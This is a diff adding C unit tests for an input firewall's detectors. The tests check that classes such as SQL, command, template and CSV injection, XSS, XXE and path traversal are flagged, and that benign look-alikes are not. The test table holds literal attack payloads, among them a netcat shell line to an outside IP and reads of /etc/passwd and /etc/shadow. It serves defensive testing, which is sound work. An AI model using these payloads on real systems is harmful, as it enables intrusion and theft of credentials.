@@ -1,0 +1,115 @@
+/* Unit tests for the input firewall's detectors (policy/payload/detect*.c)
+ * and its inspection (firewall.c): a table of values, each with the classes
+ * it must raise (0: none), attacks and the benign look-alikes that must not
+ * fire; then per-class modes, exceptions and the limit finding. */
+#include <stdarg.h>
+#include <stddef.h>
+#include <setjmp.h>
+#include <stdint.h>
+#include <cmocka.h>
+
+#include <stdio.h>
+#include <string.h>
+
+#include "policy/payload/firewall.h"
+
+#define B(c) (1u << FNG_FW_##c)
+
+struct dcase {
+	const char *v;
+	unsigned want;	/* must include these classes; 0: no class at all */
+};
+
+static const struct dcase dcases[] = {
+	{ "' OR '1'='1", B(SQL) }, { "1' RLIKE (SELECT 1)-- x", B(SQL) }, { "; echo hacked > /tmp/x", B(CMD) },
+	{ "the 'is' keyword", 0 }, { "Let's meet at 5pm; bring the docs", 0 }, { "He said \"drop it\" or else", 0 }, { "admin'--", B(SQL) }, { "1 union select 1,2", B(SQL) },
+	{ "1; DROP TABLE users", B(SQL) }, { "x'/**/oR/**/1=1#", B(SQL) }, { "1 AND SLEEP(5)", B(SQL) },
+	{ "{\"$ne\": 1}", B(NOSQL) }, { "'; return true; var a='", B(NOSQL) },
+	{ "; cat /etc/passwd", B(CMD) }, { "$(whoami)", B(CMD) }, { "a|nc 1.2.3.4 9 -e sh", B(CMD) },
+	{ "{{7*7}}", B(CODE) }, { "${jndi:ldap://x/a}", B(CODE) }, { "__import__('os')", B(CODE) },
+	{ "<script>alert(1)</script>", B(XSS) }, { "<svg/onload=alert(1)>", B(XSS) }, { " jav\tascript:alert(1)", B(XSS) },
+	{ "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>", B(XXE) },
+	{ "../../etc/passwd", B(LFI) }, { "php://filter/resource=x", B(LFI) }, { "%2e%2e%2f%2e%2e%2fetc%2fshadow", B(LFI) },
+	{ "=HYPERLINK(\"http://x\")", B(CSV) }, { "@SUM(1+1)*cmd|' /C calc'!A0", B(CSV) },
+	/* benign look-alikes */
+	{ "O'Brien", 0 }, { "It's 5 o'clock; or later?", 0 }, { "The union of two sets", 0 }, { "Tom & Jerry", 0 },
+	{ "Please select one and update the list", 0 }, { "Use `ls -la` to list", 0 }, { "<p>Hi <b>there</b></p>", 0 },
+	{ "<a href=\"https://example.com\">x</a>", 0 }, { "../images/a.png", 0 }, { "-5 degrees", 0 }, { "@ann", 0 },
+	{ "Hello {{name}}", 0 }, { "x<y && y>z", 0 }, { "C:\\Users\\ann\\report.docx", 0 }, { "a=b&c=d", 0 },
+	{ "Jones' or Smith's order", 0 }, { "Price: $5 (tax incl.)", 0 }, { "5' 11\" tall", 0 },
+};
+
+static void detector_table(void **state)
+{
+	(void)state;
+	bool ok = true;
+	for (size_t i = 0; i < sizeof(dcases) / sizeof(dcases[0]); i++) {
+		struct fng_fw_hit h[FNG_FW_NCLASS];
+		unsigned m = fng_fw_detect(dcases[i].v, strlen(dcases[i].v), FNG_PWALK_VALUE, h);
+		bool good = dcases[i].want ? (m & dcases[i].want) == dcases[i].want : m == 0;
+		if (!good) {
+			fprintf(stderr, "%s: got 0x%x want 0x%x\n", dcases[i].v, m, dcases[i].want);
+			ok = false;
+		}
+	}
+	assert_true(ok);
+}
+
+struct seen {
+	int n;
+	char cls[4][32], path[4][64];
+};
+
+static void collect(const struct fng_fw_finding *f, void *arg)
+{
+	struct seen *s = arg;
+	if (s->n < 4) {
+		snprintf(s->cls[s->n], sizeof(s->cls[0]), "%s", f->cls);
+		snprintf(s->path[s->n], sizeof(s->path[0]), "%s", f->path);
+	}
+	s->n++;
+}
+
+static void inspect_modes_exceptions_limit(void **state)
+{
+	(void)state;
+	struct fng_fw_cfg c;
+	struct seen s = { 0 };
+	size_t nf;
+	const char *ev = "{\"a\": {\"html\": \"<script>x</script>\"}, \"cell\": \"=SUM(A1)\"}";
+
+	fng_fw_cfg_init(&c);
+	assert_int_equal(fng_fw_inspect(&c, ev, strlen(ev), collect, &s, &nf), FNG_MODE_BLOCK);
+	assert_int_equal(nf, 2);
+	/* csv only alerts, the html path is excepted */
+	c.mode[FNG_FW_CSV] = FNG_MODE_ALERT;
+	char *exc[] = { "$.**.html" };
+	c.exceptions = exc;
+	c.n_exceptions = 1;
+	memset(&s, 0, sizeof(s));
+	assert_int_equal(fng_fw_inspect(&c, ev, strlen(ev), collect, &s, &nf), FNG_MODE_ALERT);
+	assert_int_equal(nf, 1);
+	assert_string_equal(s.cls[0], "csv_injection");
+	assert_string_equal(s.path[0], "$.cell");
+	c.exceptions = NULL;
+	c.n_exceptions = 0;
+	/* not JSON: a limit finding under the strongest mode, blocking */
+	memset(&s, 0, sizeof(s));
+	assert_int_equal(fng_fw_inspect(&c, "not json", 8, collect, &s, &nf), FNG_MODE_BLOCK);
+	assert_string_equal(s.cls[0], "limit");
+	/* everything allowed: off */
+	c.action = FNG_MODE_ALLOW;
+	for (int k = 0; k < FNG_FW_NCLASS; k++)
+		c.mode[k] = FNG_MODE_ALLOW;
+	assert_int_equal(fng_fw_inspect(&c, ev, strlen(ev), collect, &s, &nf), FNG_MODE_ALLOW);
+	fng_fw_cfg_free(&c);
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(detector_table),
+		cmocka_unit_test(inspect_modes_exceptions_limit),
+	};
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
